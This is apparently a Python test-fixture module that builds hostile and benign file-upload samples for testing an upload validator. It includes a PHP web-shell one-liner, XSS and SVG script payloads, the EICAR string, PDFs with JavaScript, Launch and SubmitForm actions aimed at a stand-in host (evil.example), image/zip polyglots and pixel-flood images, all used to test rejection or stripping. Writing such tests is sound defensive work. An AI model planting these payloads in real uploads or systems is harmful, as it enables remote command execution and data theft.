"""Hostile and benign upload samples, generated in memory with Pillow and pikepdf (no downloads).

Each sample's bytes are built on first use, so collecting the tests stays fast.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from wizard.uploads import LOGO_KINDS, PROOF_KINDS

LIMIT = 10 * 2**20
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<html><body>" + SCRIPT + b"</body></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass
class Sample:
    name: str
    klass: str
    make: Callable[[], bytes]
    filename: str
    verdict: str  # "accept" or "reject"
    allowed: tuple[str, ...] = PROOF_KINDS
    max_bytes: int = LIMIT
    payload: bytes | None = None  # accepted samples: bytes that must not survive into the stored file
    kind: str | None = None
    size: tuple[int, int] | None = None  # accepted images: expected (width, height) after orientation
    reason: str | None = None  # rejected samples: a word the message must contain

    @cached_property
    def data(self) -> bytes:
        return self.make()


def picture(mode="RGB", size=(64, 48)) -> Image.Image:
    g = Image.linear_gradient("L").resize(size)
    rgb = Image.merge("RGB", (g, g.transpose(Image.Transpose.ROTATE_90).resize(size), Image.new("L", size, 90)))
    if mode == "P":
        return rgb.convert("P", palette=Image.Palette.ADAPTIVE)
    if mode in ("LA", "RGBA"):
        base = rgb.convert(mode[:-1])
        base.putalpha(g)
        return base
    return rgb.convert(mode) if mode not in ("I;16",) else g.convert("I;16")


def encode(fmt="PNG", mode="RGB", size=(64, 48), **options) -> bytes:
    buf = io.BytesIO()
    picture(mode, size).save(buf, fmt, **options)
    return buf.getvalue()


def exif(orientation=1, description: bytes | None = None, gps=False) -> Image.Exif:
    ex = Image.Exif()
    ex[0x0112] = orientation
    if description:
        ex[0x010E] = description.decode()
    if gps:
        ex[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 17.0, 40.0)}
    return ex


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def raw_png(width: int, height: int, depth: int, colour: int, row: bytes) -> bytes:
    """A PNG whose rows all equal ``row``, compressed in slices so a pixel flood costs little memory."""
    z, step = zlib.compressobj(9), max(1, 4_000_000 // len(row))
    body = b"".join(z.compress(row * min(step, height - y)) for y in range(0, height, step)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(encode("JPEG", size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, body in files.items():
            zf.writestr(name, body)
    return buf.getvalue()


def docx() -> bytes:
    return zip_bytes({"[Content_Types].xml": b'<?xml version="1.0"?><Types/>', "_rels/.rels": b"<Relationships/>",
                      "word/document.xml": b"<w:document/>"})


def pdf(pages=1, edit: Callable[[pikepdf.Pdf], None] | None = None, text: str | None = None, **save) -> bytes:
    doc = pikepdf.new()
    for _ in range(pages):
        doc.add_blank_page(page_size=(595, 842))
    if text:
        page = doc.pages[0]
        page.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                                                  BaseFont=Name.Helvetica)))
        page.Contents = doc.make_stream(f"BT /F1 18 Tf 72 760 Td ({text}) Tj ET".encode())
    if edit:
        edit(doc)
    buf = io.BytesIO()
    doc.save(buf, **save)
    return buf.getvalue()


def raw_pdf(*bodies: bytes, header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A hand-written PDF (object 1 is the catalog, 2 the page tree) with a correct xref table."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R " + (bodies[0] if bodies else b"") + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>", *bodies[1:]]
    out, offsets = bytearray(header), []
    for number, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def annotate(action: Dictionary | None = None, **annot) -> Callable[[pikepdf.Pdf], None]:
    def edit(doc: pikepdf.Pdf) -> None:
        fields = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([72, 72, 200, 100]), **annot}
        if action is not None:
            fields["A"] = action
        doc.pages[0].Annots = Array([doc.make_indirect(Dictionary(**fields))])
    return edit


def catalog(**entries) -> Callable[[pikepdf.Pdf], None]:
    def edit(doc: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            doc.Root[Name("/" + key)] = value(doc) if callable(value) else value
    return edit


def attach(doc: pikepdf.Pdf) -> None:
    doc.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(doc, b"MZ\x90\x00 not really a program")


def many_objects(doc: pikepdf.Pdf) -> None:
    doc.Root.Junk = Array([doc.make_indirect(Dictionary(N=i)) for i in range(50_001)])


def cut(make: Callable[[], bytes], keep: float) -> Callable[[], bytes]:
    return lambda: make()[: int(len(make()) * keep)]


def flip_byte(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZIP_PAYLOAD = b"shell.php" + PHP


def js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def hostile() -> list[Sample]:
    s, png, jpg = [], (lambda: encode("PNG")), (lambda: encode("JPEG"))
    pdf1 = pdf
    def add(name, klass, make, filename, **kw):
        s.append(Sample(name, klass, make, filename, kw.pop("verdict", "reject"), **kw))
    # Over-size: the limit is checked before anything is parsed.
    add("oversize-10mb-plus-1", "oversize", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * (LIMIT - 7), "big.png", reason="10 MB")
    add("oversize-small-limit-jpeg", "oversize", jpg, "a.jpg", max_bytes=100, reason="larger")
    add("oversize-pdf", "oversize", lambda: pdf1(3), "a.pdf", max_bytes=500, reason="larger")
    # Extension and content disagree, in both directions; or the name has no allowed extension.
    for name, make, filename in [("png-as-jpg", png, "a.jpg"), ("jpeg-as-png", jpg, "a.png"), ("pdf-as-png", pdf1, "a.png"),
                                 ("png-as-pdf", png, "a.pdf"), ("jpeg-as-pdf", jpg, "a.pdf"), ("png-no-ext", png, "image"),
                                 ("png-as-php", png, "a.php"), ("png-double-ext", png, "a.png.php"),
                                 ("png-nul-php", png, "a.png\x00.php"), ("jpeg-as-gif", jpg, "a.gif")]:
        add(name, "wrong-extension", make, filename)
    add("pdf-as-logo", "kind-not-allowed", pdf1, "logo.pdf", allowed=LOGO_KINDS, reason="PNG or JPEG")
    for name, body, filename in [("html-as-png", HTML, "a.png"), ("js-as-jpg", b"alert(1);" * 20, "a.jpg"),
                                 ("html-as-pdf", HTML, "a.pdf"), ("php-as-png", PHP, "a.png"),
                                 ("html-before-pdf", HTML + pdf(), "a.pdf"), ("eicar-as-pdf", EICAR, "a.pdf"),
                                 ("eicar-as-png", EICAR, "a.png"), ("svg-as-svg", SVG, "a.svg"), ("svg-as-png", SVG, "a.png"),
                                 ("svg-xml-as-png", b'<?xml version="1.0"?>' + SVG, "a.png"), ("svg-as-pdf", SVG, "a.pdf")]:
        add(name, "svg" if "svg" in name else "eicar" if "eicar" in name else "markup", lambda b=body: b, filename)
    for fmt in ("TIFF", "GIF", "WEBP", "BMP", "ICO", "JPEG2000", "PPM", "TGA"):
        add(f"{fmt.lower()}-as-png", "other-image-format", lambda f=fmt: encode(f), "a.png", reason="PNG")
    add("fits-as-png", "other-image-format", lambda: b"SIMPLE  =                    T".ljust(2880, b" "), "a.png")
    for name, make in [("zip-as-pdf", lambda: zip_bytes({"a.txt": b"hi"})), ("docx-as-pdf", docx),
                       ("gzip-as-pdf", lambda: gzip.compress(b"%PDF-1.4")), ("zip-as-png", lambda: zip_bytes({"x": b"1"}))]:
        add(name, "archive", make, name.replace("-as-", "."))
    # Pixel floods: refused from the header, before any pixel is decoded.
    add("flood-png-1bit-30000", "pixel-flood", lambda: raw_png(30000, 30000, 1, 0, b"\0" * 3751), "a.png", reason="pixels")
    add("flood-png-rgba-8000", "pixel-flood", lambda: raw_png(8000, 8000, 8, 6, b"\0" * 32001), "a.png", reason="pixels")
    add("flood-png-wide", "pixel-flood", lambda: raw_png(2_000_000, 21, 1, 0, b"\0" * 250_001), "a.png", reason="pixels")
    add("flood-jpeg-65000", "pixel-flood", lambda: jpeg_claiming(65000, 65000), "a.jpg", reason="pixels")
    add("flood-jpeg-7000", "pixel-flood", lambda: jpeg_claiming(7000, 7000), "a.jpg")
    for name, make, filename in [("truncated-png", cut(lambda: encode("PNG", size=(300, 200)), 0.5), "a.png"),
                                 ("truncated-jpeg", cut(lambda: encode("JPEG", size=(300, 200)), 0.5), "a.jpg"),
                                 ("truncated-progressive", cut(lambda: encode("JPEG", size=(300, 200), progressive=True), 0.6), "a.jpg"),
                                 ("truncated-pdf", cut(lambda: pdf(3), 0.5), "a.pdf"),
                                 ("pdf-header-only", lambda: b"%PDF-1.7\n%%EOF\n", "a.pdf"),
                                 ("png-bad-crc", lambda: flip_byte(encode("PNG"), 40), "a.png"),
                                 ("png-header-only", lambda: encode("PNG")[:33], "a.png"),
                                 ("pdf-broken-xref", lambda: raw_pdf().replace(b"startxref\n", b"startxref\n9"), "a.pdf"),
                                 ("pdf-deep-nesting", lambda: raw_pdf(b"/Deep " + b"[" * 1000 + b"]" * 1000), "a.pdf")]:
        add(name, "truncated-or-corrupt", make, filename)
    add("empty-png", "empty", lambda: b"", "a.png", reason="empty")
    add("empty-pdf", "empty", lambda: b"", "a.pdf", reason="empty")
    # Active PDF content, one sample per way of carrying it.
    for name, edit, reason in [
        ("pdf-javascript-names", catalog(Names=lambda d: Dictionary(JavaScript=Dictionary(
            Names=Array([String("x"), d.make_indirect(js())])))), "JavaScript"),
        ("pdf-openaction-js", catalog(OpenAction=js()), "by itself"),
        ("pdf-openaction-uri", catalog(OpenAction=Dictionary(S=Name.URI, URI=String("https://evil.example"))), "by itself"),
        ("pdf-link-javascript", annotate(js()), "JavaScript"),
        ("pdf-launch", annotate(Dictionary(S=Name.Launch, F=String("calc.exe"))), "programs"),
        ("pdf-embedded-files", attach, "attached"),
        ("pdf-file-attachment-annot", annotate(Subtype=Name.FileAttachment), "attached"),
        ("pdf-xfa", catalog(AcroForm=Dictionary(Fields=Array(), XFA=Array([String("x"), String("<xdp/>")]))), "XFA"),
        ("pdf-page-aa", lambda d: d.pages[0].obj.__setitem__("/AA", Dictionary(O=js())), "by itself"),
        ("pdf-catalog-aa", catalog(AA=Dictionary(WC=js())), "by itself"),
        ("pdf-richmedia", annotate(Subtype=Name.RichMedia), "media"),
        ("pdf-submitform", annotate(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))), "send data"),
        ("pdf-gotor", annotate(Dictionary(S=Name.GoToR, F=String("other.pdf"))), "other files"),
        ("pdf-too-many-pages", None, "pages"), ("pdf-too-many-objects", many_objects, "complex"),
    ]:
        pages = 201 if name == "pdf-too-many-pages" else 1
        add(name, "pdf-active", lambda e=edit, p=pages: pdf(p, e, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            "a.pdf", reason=reason)
    add("pdf-js-hex-escaped-name", "pdf-active", lambda: raw_pdf(
        b"/Names << /J#61vaScript << /Names [(a) << /S /J#61vaScript /J#53 (x) >>] >> >>"), "a.pdf", reason="JavaScript")
    add("pdf-js-in-stream", "pdf-active", lambda: raw_pdf(b"/Names << /JavaScript 4 0 R >>", b"<< /Names [(a) 5 0 R] >>",
                                                         b"<< /S /JavaScript /JS 6 0 R >>",
                                                         b"<< /Length 8 >>\nstream\napp.x();\nendstream"), "a.pdf", reason="JavaScript")
    for name, password in [("pdf-encrypted-user", "secret"), ("pdf-encrypted-owner-only", "")]:
        add(name, "pdf-encrypted", lambda p=password: pdf(
            encryption=pikepdf.Encryption(owner="owner", user=p)), "a.pdf", reason="encrypted")
    for name, make in [("pdf-html-appended", lambda: pdf() + HTML), ("pdf-zip-appended", lambda: pdf() + zip_bytes({"x.php": PHP})),
                       ("pdf-html-in-header", lambda: raw_pdf(header=b"%PDF-1.4\n%" + HTML + b"\n")),
                       ("pdf-zip-inside", lambda: raw_pdf(b"", b"<< /Length 200 >>\nstream\n" + zip_bytes({"x.php": PHP})[:200]
                                                         + b"\nendstream")),
                       ("pdf-junk-appended", lambda: pdf() + b"garbage")]:
        add(name, "pdf-polyglot", make, "a.pdf", reason="hidden")
    # Accepted, but nothing of the payload may reach the stored file.
    for name, make, payload in [
        ("jpeg-html-appended", lambda: encode("JPEG") + HTML, SCRIPT),
        ("jpeg-zip-appended", lambda: encode("JPEG") + zip_bytes({"s": ZIP_PAYLOAD}), ZIP_PAYLOAD),
        ("png-zip-appended", lambda: encode("PNG") + zip_bytes({"s": ZIP_PAYLOAD}), ZIP_PAYLOAD),
        ("png-html-appended", lambda: encode("PNG") + HTML, SCRIPT),
        ("jpeg-php-in-exif", lambda: encode("JPEG", exif=exif(1, PHP)), PHP),
        ("jpeg-script-in-comment", lambda: encode("JPEG", comment=SCRIPT), SCRIPT),
        ("jpeg-script-in-xmp", lambda: encode("JPEG", xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"), SCRIPT),
        ("jpeg-php-in-icc", lambda: encode("JPEG", icc_profile=PHP * 4), PHP),
        ("png-php-in-text", lambda: encode("PNG", pnginfo=_text("tEXt")), PHP),
        ("png-php-in-itxt", lambda: encode("PNG", pnginfo=_text("iTXt")), PHP),
        ("png-php-in-exif", lambda: encode("PNG", exif=exif(1, PHP)), PHP),
        ("png-php-in-icc", lambda: encode("PNG", icc_profile=PHP * 4), PHP),
    ]:
        kind = "jpeg" if name.startswith("jpeg") else "png"
        add(name, "payload-stripped", make, f"a.{kind}", verdict="accept", payload=payload, kind=kind, size=(64, 48))
    return s


def _text(kind: str) -> PngInfo:
    info = PngInfo()
    (info.add_text if kind == "tEXt" else info.add_itxt)("Comment", PHP.decode())
    return info


def benign() -> list[Sample]:
    s = []
    def add(name, make, filename, kind, size=None, allowed=PROOF_KINDS):
        s.append(Sample(name, "benign", make, filename, "accept", allowed=allowed, kind=kind, size=size))
    for o, size in [(1, (64, 48)), (3, (64, 48)), (6, (48, 64)), (8, (48, 64)), (5, (48, 64))]:
        add(f"jpeg-exif-orientation-{o}-gps", lambda o=o: encode("JPEG", exif=exif(o, gps=True)), "IMG_1234.JPG", "jpeg", size)
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for name, mode, size, options in [("cmyk", "CMYK", (64, 48), {}), ("progressive", "RGB", (320, 240), {"progressive": True}),
                                      ("grayscale", "L", (64, 48), {}), ("q100-444", "RGB", (64, 48), {"quality": 100,
                                                                                                        "subsampling": 0}),
                                      ("one-pixel", "RGB", (1, 1), {}), ("full-hd", "RGB", (1920, 1080), {"quality": 85}),
                                      ("icc-srgb", "RGB", (64, 48), {"icc_profile": srgb}), ("optimised", "RGB", (200, 100),
                                                                                             {"optimize": True})]:
        add(f"jpeg-{name}", lambda m=mode, z=size, op=options: encode("JPEG", m, z, **op), f"{name}.jpeg", "jpeg", size)
    add("jpeg-logo", lambda: encode("JPEG", size=(300, 100)), "logo.jpg", "jpeg", (300, 100), LOGO_KINDS)
    for mode in ("RGB", "RGBA", "LA", "L", "1", "P", "I;16"):
        add(f"png-{mode.lower().replace(';', '')}", lambda m=mode: encode("PNG", m), f"{mode}.png", "png", (64, 48))
    add("png-palette-transparency", lambda: encode("PNG", "P", transparency=0), "t.png", "png", (64, 48))
    add("png-16bit-rgb", lambda: raw_png(40, 30, 16, 2, b"\0" + bytes(range(240))), "deep.png", "png", (40, 30))
    add("png-screenshot-4000x3000", lambda: _screenshot(4000, 3000), "Screenshot 2024-05-01.PNG", "png", (4000, 3000))
    add("png-tall", lambda: encode("PNG", size=(100, 3000)), "tall.png", "png", (100, 3000))
    add("png-logo", lambda: encode("PNG", "RGBA", (512, 512)), "logo.png", "png", (512, 512), LOGO_KINDS)
    add("png-animated", _apng, "anim.png", "png", (64, 48))
    uri = annotate(Dictionary(S=Name.URI, URI=String("https://example.org")))
    page0 = catalog(OpenAction=lambda d: Array([d.pages[0].obj, Name.Fit]))
    goto = catalog(OpenAction=lambda d: Dictionary(S=Name.GoTo, D=Array([d.pages[0].obj, Name.Fit])))
    form = catalog(AcroForm=Dictionary(Fields=Array()))
    for name, make in [("pdf-blank", pdf), ("pdf-3-pages", lambda: pdf(3)), ("pdf-200-pages", lambda: pdf(200)),
                       ("pdf-text", lambda: pdf(text="Certificate of membership")),
                       ("pdf-text-multi-page", lambda: pdf(12, text="Annual report")),
                       ("pdf-link-uri", lambda: pdf(edit=uri)), ("pdf-openaction-fit", lambda: pdf(edit=page0)),
                       ("pdf-openaction-goto", lambda: pdf(edit=goto)), ("pdf-plain-form", lambda: pdf(edit=form)),
                       ("pdf-object-streams", lambda: pdf(5, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
                       ("pdf-linearized", lambda: pdf(4, text="Fast web view", linearize=True)),
                       ("pdf-2.0", lambda: pdf(force_version="2.0")), ("pdf-handwritten", raw_pdf),
                       ("pdf-trailing-whitespace", lambda: pdf() + b"\r\n \n"), ("pdf-scanned-jpeg", _scanned)]:
        add(name, make, f"{name}.pdf", "pdf")
    return s


def _screenshot(width: int, height: int) -> bytes:
    im = Image.new("RGB", (width, height), (246, 247, 249))
    for y in range(0, height, 40):  # flat bands like a UI: compresses well, as real screenshots do
        im.paste((30 + y % 200, 60, 120), (40, y, width - 40, y + 12))
    buf = io.BytesIO()
    im.save(buf, "PNG")
    return buf.getvalue()


def _apng() -> bytes:
    buf = io.BytesIO()
    picture().save(buf, "PNG", save_all=True, append_images=[picture("RGB").rotate(180)], duration=100)
    return buf.getvalue()


def _scanned() -> bytes:
    def edit(doc: pikepdf.Pdf) -> None:
        image = doc.make_stream(encode("JPEG", size=(400, 300)), Type=Name.XObject, Subtype=Name.Image, Width=400,
                                Height=300, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode)
        page = doc.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(Im0=image))
        page.Contents = doc.make_stream(b"q 400 0 0 300 72 400 cm /Im0 Do Q")
    return pdf(edit=edit)


def corpus() -> list[Sample]:
    return hostile() + benign()
